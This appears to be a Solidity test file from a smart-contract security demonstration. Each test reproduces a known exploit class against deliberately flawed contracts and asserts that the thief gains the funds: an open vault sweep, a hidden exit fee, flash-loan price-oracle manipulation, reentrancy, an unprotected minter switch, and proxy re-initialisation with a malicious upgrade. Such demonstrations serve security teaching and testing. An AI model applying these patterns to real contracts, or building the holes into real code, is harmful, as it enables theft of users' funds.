// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {DemoToken} from "../src/demo/DemoToken.sol";
import {FlashDrain, FlashLender} from "../src/incidents/FlashDrain.sol";
import {IncidentProxy} from "../src/incidents/Governed.sol";
import {LeakyVault} from "../src/incidents/LeakyVault.sol";
import {LooseToken} from "../src/incidents/LooseToken.sol";
import {EmptiedBank, ProxiedBank} from "../src/incidents/ProxiedBank.sol";
import {ReentrantPool, ReentrantThief} from "../src/incidents/ReentrantPool.sol";
import {SpotLender} from "../src/incidents/SpotLender.sol";
import {SpotPool} from "../src/incidents/SpotPool.sol";
import {vm} from "./support/Vm.sol";

/// The attacks work: whoever should lose money loses it, and whoever only uses the contracts does not.
contract IncidentsTest {
    address private constant THIEF = address(0xbad);

    DemoToken private cash = new DemoToken();
    DemoToken private goods = new DemoToken();

    receive() external payable {}

    function test_a_vault_is_swept_by_anybody() public {
        LeakyVault vault = new LeakyVault(cash);
        cash.mint(address(this), 100e6);
        cash.approve(address(vault), 100e6);
        vault.deposit(100e6, address(this));
        vault.redeem(40e6, address(this), address(this));
        vm.assertEq(vault.convertToAssets(1e6), 1e6, "leaving moves no price");
        vm.prank(THIEF);
        vault.sweep(cash, THIEF);
        vm.assertEq(cash.balanceOf(THIEF), 60e6, "stolen");
        vm.assertEq(vault.convertToAssets(1e6), 0, "share price");
    }

    function test_a_fee_on_leaving_is_in_no_share_price() public {
        LeakyVault vault = new LeakyVault(cash);
        cash.mint(address(this), 100e6);
        cash.approve(address(vault), 100e6);
        vault.deposit(100e6, address(this));
        vault.setExitFee(9_000);
        vm.assertEq(vault.convertToAssets(100e6), 100e6, "share price");
        vm.assertEq(vault.redeem(100e6, address(this), address(this)), 10e6, "redeemed");
    }

    function test_a_lender_is_emptied_in_one_transaction() public {
        SpotPool pool = new SpotPool(cash, goods);
        cash.mint(address(pool), 1_000e18);
        goods.mint(address(pool), 1_000e18);
        SpotLender lender = new SpotLender(pool);
        cash.mint(address(lender), 500e18);
        FlashLender bank = new FlashLender();
        cash.mint(address(bank), 9_000e18);
        FlashDrain drain = new FlashDrain(bank, lender);

        vm.prank(THIEF);
        drain.attack(9_000e18);
        vm.assertEq(cash.balanceOf(address(lender)), 0, "what the lender has left");
        vm.assertGe(cash.balanceOf(THIEF), 489e18, "stolen");
        vm.assertEq(cash.balanceOf(address(bank)), 9_000e18, "the loan is given back");
        vm.assertLe(pool.spotPrice(), 1.03e18, "and the price is nearly what it was");
        vm.assertEq(lender.price(), 100e18, "but the lender remembers another");
    }

    function test_a_pool_pays_twice() public {
        ReentrantPool pool = new ReentrantPool();
        pool.deposit{value: 8 ether}();
        ReentrantThief thief = new ReentrantThief(pool);
        uint256 before = address(this).balance;
        thief.attack{value: 8 ether}(3);
        vm.assertEq(address(this).balance, before + 6 ether, "stolen");
        vm.assertEq(pool.get_virtual_price(), 0.25e18, "virtual price");
    }

    function test_anybody_becomes_the_minter() public {
        LooseToken token = new LooseToken();
        vm.prank(THIEF);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "not the minter"));
        token.mint(THIEF, 1);
        vm.prank(THIEF);
        token.setMinter(THIEF);
        vm.prank(THIEF);
        token.mint(THIEF, 1e24);
        vm.assertEq(token.balanceOf(THIEF), 1e24, "minted");
    }

    function test_a_bank_that_is_initialised_twice_is_upgraded_and_emptied() public {
        bytes memory start = abi.encodeCall(ProxiedBank.initialize, (address(this)));
        ProxiedBank bank = ProxiedBank(address(new IncidentProxy(address(new ProxiedBank()), start)));
        bank.deposit{value: 1 ether}();
        vm.startPrank(THIEF);
        bank.initialize(THIEF);
        bank.upgradeToAndCall(address(new EmptiedBank()), abi.encodeCall(EmptiedBank.empty, (payable(THIEF))));
        vm.stopPrank();
        vm.assertEq(THIEF.balance, 1 ether, "stolen");
    }
}
